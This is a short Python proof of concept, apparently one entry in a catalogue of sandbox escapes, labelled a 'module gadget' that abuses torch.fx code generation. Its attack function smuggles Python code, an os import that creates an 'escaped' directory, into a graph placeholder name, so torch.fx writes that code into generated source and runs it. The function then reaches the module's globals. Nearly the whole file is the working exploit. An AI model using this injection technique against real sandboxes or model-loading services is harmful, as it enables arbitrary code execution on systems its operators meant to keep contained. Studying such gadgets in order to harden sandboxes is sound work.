"""Class: module gadget. Source: own find. Escape: torch.fx writes Python and executes it."""

import torch


def attack(model, tokenizer, address):
    graph = torch.fx.Graph()
    graph.placeholder("x=__import__('os').mkdir('escaped')")
    graph.output(None)
    return torch.fx.GraphModule(torch.nn.Module(), graph).__class__.forward.__globals__
